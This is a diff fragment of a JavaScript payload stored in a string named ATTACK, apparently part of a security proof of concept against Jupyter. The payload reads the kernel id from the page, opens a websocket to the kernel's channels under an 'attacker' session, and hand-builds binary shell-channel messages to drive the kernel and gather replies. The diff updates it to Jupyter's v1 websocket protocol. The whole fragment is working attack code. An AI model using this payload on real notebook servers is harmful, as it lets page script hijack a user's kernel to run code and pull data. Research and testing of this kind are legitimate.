@@ -23,36 +23,35 @@ ATTACK = """async messages => {
   const { kernelId } = JSON.parse(document.getElementById("jupyter-config-data").textContent);
   const address = new URL(`/api/kernels/${kernelId}/channels?session_id=attacker`, location.href);
   address.protocol = "ws:";
-  const socket = new WebSocket(address);
+  const socket = new WebSocket(address, "v1.kernel.websocket.jupyter.org");
   socket.binaryType = "arraybuffer";
   await new Promise((onopen, onerror) => Object.assign(socket, { onopen, onerror }));
   const replies = [];
   let answered = () => {};
   socket.onmessage = ({ data }) => {
-    if (typeof data === "string") {
-      const { header, parent_header } = JSON.parse(data);
-      if (header.msg_type === "kernel_info_reply") answered(parent_header.msg_id);
-      return;
-    }
     const view = new DataView(data);
-    const ends = Array.from({ length: view.getUint32(0) }, (_, n) => view.getUint32(4 * (n + 1)));
-    const text = (n) => new TextDecoder().decode(data.slice(ends[n], ends[n + 1]));
-    const { content } = JSON.parse(text(0));
-    if (content.data?.content?.kind === "piece") replies.push(text(1));
+    const number = (n) => Number(view.getBigUint64(8 * n, true));
+    const part = (n) => new TextDecoder().decode(data.slice(number(n + 1), number(n + 2)));
+    const { msg_type } = JSON.parse(part(1));
+    if (msg_type === "kernel_info_reply") answered(JSON.parse(part(2)).msg_id);
+    if (msg_type === "comm_msg" && JSON.parse(part(4)).data?.content?.kind === "piece") {
+      replies.push(part(5));
+    }
   };
   const send = (msg_type, content, text = "") => {
     const header = {
       msg_id: crypto.randomUUID(), msg_type, session: "attacker", username: "",
       version: "5.3", date: new Date().toISOString(),
     };
-    const message = { channel: "shell", header, parent_header: {}, metadata: {}, content };
-    const json = new TextEncoder().encode(JSON.stringify(message));
-    const buffer = new TextEncoder().encode(text);
-    const whole = new Uint8Array(12 + json.length + buffer.length);
+    const encode = (value) => new TextEncoder().encode(value);
+    const json = [header, {}, {}, content].map((value) => encode(JSON.stringify(value)));
+    const parts = [encode("shell"), ...json, encode(text)];
+    const offsets = [8 * (parts.length + 2)];
+    for (const { length } of parts) offsets.push(offsets.at(-1) + length);
+    const whole = new Uint8Array(offsets.at(-1));
     const view = new DataView(whole.buffer);
-    [2, 12, 12 + json.length].forEach((value, n) => view.setUint32(4 * n, value));
-    whole.set(json, 12);
-    whole.set(buffer, 12 + json.length);
+    [offsets.length, ...offsets].forEach((n, at) => view.setBigUint64(8 * at, BigInt(n), true));
+    parts.forEach((one, n) => whole.set(one, offsets[n]));
     socket.send(whole);
     return header.msg_id;
   };
